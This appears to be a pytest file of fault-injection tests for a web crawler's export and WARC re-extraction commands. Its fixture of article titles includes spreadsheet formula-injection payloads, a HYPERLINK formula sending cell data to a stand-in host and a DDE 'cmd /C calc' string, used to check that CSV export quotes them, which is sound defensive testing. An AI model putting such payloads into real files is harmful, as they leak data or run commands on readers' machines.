"""Fault injection, issue 21: what a misbehaving site's content does to a run and what it leaves.

Each probe stages one case of the issue against a stand-in site on loopback (tests/hostile.py)
or on files a run left, and scores the outcome: what was archived, what was refused, and the
exit status. Every probe failed on the code before issue 21 (the commit messages say how).
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.badsite import Answer, article_html
from tests.crawling import REPO, archive_lines, run_crawl
from tests.faults import unshare_works
from tests.hostile import HostileSite, article_path
from tests.replica import Replica

pytestmark = pytest.mark.slow


def python_m_crawler(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "crawler", *args], cwd=REPO,
                          capture_output=True, text=True, timeout=timeout)


# --- Exports are safe to open ---------------------------------------------------------------

FORMULA_TITLES = {
    2548201: "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Bấm vào đây\")",
    2548202: "+84 xã đạt chuẩn nông thôn mới",
    2548203: "-5 độ: rét đậm rét hại ở Nam Định",
    2548204: "@SUM(1+1)*cmd|' /C calc'!A0",
    2548205: "Hội nghị tổng kết năm 2022",  # a plain title stays as it is
}


@pytest.fixture(scope="module")
def formula_archive(tmp_path_factory) -> Path:
    """An archive crawled from a site whose titles begin like spreadsheet formulas."""
    root = tmp_path_factory.mktemp("formulas") / "archive"
    pages = {article_path("bai", aid): Answer(body=article_html(aid, title=title).encode())
             for aid, title in FORMULA_TITLES.items()}
    with HostileSite(pages) as site:
        done = run_crawl(site.url, root, check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    assert sorted(r["title"] for r in archive_lines(root)) == sorted(FORMULA_TITLES.values())
    return root


def csv_titles(path: Path) -> dict[str, str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return {row["id"]: row["title"] for row in csv.DictReader(fh)}


def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote(formula_archive, tmp_path):
    out = tmp_path / "a.csv"
    done = python_m_crawler("export", "--archive-dir", str(formula_archive), "--format", "csv",
                            "--output", str(out))
    assert done.returncode == 0, done.stderr
    titles = csv_titles(out)
    for aid, title in FORMULA_TITLES.items():
        expected = title if title[0].isalnum() else "'" + title
        assert titles[str(aid)] == expected
    raw = tmp_path / "raw.csv"
    done = python_m_crawler("export", "--archive-dir", str(formula_archive), "--format", "csv",
                            "--output", str(raw), "--csv-raw")
    assert done.returncode == 0, done.stderr
    assert csv_titles(raw) == {str(aid): title for aid, title in FORMULA_TITLES.items()}


def test_a_killed_exports_temporary_file_is_removed_by_the_next_export(formula_archive,
                                                                          tmp_path):
    # What a SIGKILLed export leaves: its temporary output, named by its (now gone) pid.
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)
    dead_pid = int(gone.stdout)
    out = tmp_path / "exports" / "articles.csv"
    out.parent.mkdir()
    stale = [out.parent / f".articles.csv.tmp-{dead_pid}",
             out.parent / f".articles.parquet.tmp-{dead_pid}",
             out.parent / f".articles.duckdb.tmp-{dead_pid}.wal"]
    alive = out.parent / f".articles.csv.tmp-{os.getpid()}"  # an export still running
    for path in (*stale, alive):
        path.write_bytes(b"x" * 1000)
    done = python_m_crawler("export", "--archive-dir", str(formula_archive), "--format", "csv",
                            "--output", str(out))
    assert done.returncode == 0, done.stderr
    assert not any(path.exists() for path in stale)
    assert alive.exists()
    assert sorted(p.name for p in out.parent.iterdir()) == sorted([out.name, alive.name])


@pytest.mark.skipif(not unshare_works(), reason="needs a private mount namespace (unshare)")
@pytest.mark.parametrize("mount_options", ["size=4k", "ro"])
def test_a_full_or_read_only_output_is_a_one_line_error_with_status_6(formula_archive, tmp_path,
                                                                        mount_options):
    command = [sys.executable, "-m", "crawler", "export", "--archive-dir", str(formula_archive),
               "--format", "csv", "--output", "/mnt/out/articles.csv"]
    quoted = " ".join("'" + part.replace("'", "'\\''") + "'" for part in command)
    script = (f"mkdir -p /mnt/out && mount -t tmpfs -o {mount_options} tmpfs /mnt/out && "
              f"{{ {quoted}; rc=$?; ls -a /mnt/out; exit $rc; }}")
    done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script],
                          cwd=REPO, capture_output=True, text=True, timeout=120)
    assert done.returncode == 6, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: cannot write /mnt/out/articles.csv: ")
    assert "Traceback" not in done.stderr
    assert ("No space left on device" if mount_options.startswith("size")
            else "Read-only file system") in lines[0]
    assert done.stdout.split() == [".", ".."]  # no temporary file left behind


# --- Damaged WARCs are read past ------------------------------------------------------------


@pytest.fixture(scope="module")
def warc_crawl(tmp_path_factory) -> dict:
    """A crawl of a small replica, with its WARC file and the records it archived."""
    root = tmp_path_factory.mktemp("warc") / "archive"
    with Replica(articles=40, seed=21, crawl_delay=0) as site:
        run_crawl(site.url, root)
        url = site.url
    (warc,) = sorted((root / "raw").glob("*.warc.gz"))
    records = archive_lines(root)
    return {"url": url, "warc": warc, "records": records}


def reextract_cli(crawl: dict, *warcs: Path, into: Path) -> subprocess.CompletedProcess[str]:
    return python_m_crawler("reextract", *map(str, warcs), "--archive-dir", str(into),
                            "-s", f"SITE_URL={crawl['url']}", "-s", "SITE_HOST_ALIASES=localhost",
                            "-s", "ARCHIVE_FSYNC=False", timeout=300)


def damage_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("damaged: /")]


def test_64_corrupted_bytes_in_one_record_lose_that_record_only(warc_crawl, tmp_path):
    records = sorted(warc_crawl["records"], key=lambda r: r["capture"]["offset"])
    hit = records[len(records) // 2]["capture"]
    data = bytearray(warc_crawl["warc"].read_bytes())
    at = hit["offset"] + hit["length"] // 2
    data[at:at + 64] = bytes(b ^ 0x5A for b in data[at:at + 64])
    damaged = tmp_path / "damaged.warc.gz"
    damaged.write_bytes(data)
    done = reextract_cli(warc_crawl, damaged, into=tmp_path / "fresh")
    assert done.returncode == 1, done.stderr  # something was damaged: said by the status
    assert "Traceback" not in done.stderr
    (line,) = damage_lines(done.stderr)
    assert line.startswith(f"damaged: {damaged}: offset {hit['offset']}, {hit['length']} bytes "
                           f"skipped (bytes {hit['offset']}-{hit['offset'] + hit['length'] - 1})")
    assert line.isascii() and line.isprintable()  # plain text: no garbage quoted from the file
    archived = {r["id"] for r in archive_lines(tmp_path / "fresh")}
    assert archived == {r["id"] for r in records} - {records[len(records) // 2]["id"]}


def test_a_corrupted_record_of_an_uncompressed_warc_is_skipped_at_the_next_header(warc_crawl,
                                                                                  tmp_path):
    import gzip

    plain = bytearray(gzip.decompress(warc_crawl["warc"].read_bytes()))
    victim = warc_crawl["records"][5]
    start = plain.index(f"WARC-Record-ID: <{victim['capture']['record_id']}>".encode())
    at = plain.index(b"<p>", start)  # inside its HTML body: only the digest can tell
    plain[at:at + 64] = b"\0" * 64
    damaged = tmp_path / "damaged.warc"
    damaged.write_bytes(plain)
    done = reextract_cli(warc_crawl, damaged, into=tmp_path / "fresh")
    assert done.returncode == 1, done.stderr
    (line,) = damage_lines(done.stderr)
    assert "does not match its digest" in line
    archived = {r["id"] for r in archive_lines(tmp_path / "fresh")}
    assert archived == {r["id"] for r in warc_crawl["records"]} - {victim["id"]}


def test_a_truncated_warc_is_read_to_the_cut_and_says_so(warc_crawl, tmp_path):
    data = warc_crawl["warc"].read_bytes()
    cut = len(data) * 2 // 3
    damaged = tmp_path / "cut.warc.gz"
    damaged.write_bytes(data[:cut])
    done = reextract_cli(warc_crawl, damaged, into=tmp_path / "fresh")
    assert done.returncode == 1, done.stderr
    (line,) = damage_lines(done.stderr)
    offset = int(line.split("offset ")[1].split(",")[0])
    assert f"bytes {offset}-{cut - 1})" in line
    whole = {r["id"] for r in warc_crawl["records"]
             if r["capture"]["offset"] + r["capture"]["length"] <= cut}
    assert {r["id"] for r in archive_lines(tmp_path / "fresh")} == whole and len(whole) > 10


def test_a_file_that_is_not_a_warc_is_a_clear_error(warc_crawl, tmp_path):
    notes = tmp_path / "notes.warc.gz"
    notes.write_text("These are my notes about the crawl, not a WARC file.\n" * 50)
    done = reextract_cli(warc_crawl, warc_crawl["warc"], notes, into=tmp_path / "fresh")
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip() == (f"error: {notes} is not a WARC file: no WARC record begins in "
                                   f"it (it starts 'These are my notes about the crawl, not')")
    assert not (tmp_path / "fresh").exists()  # refused before anything was written
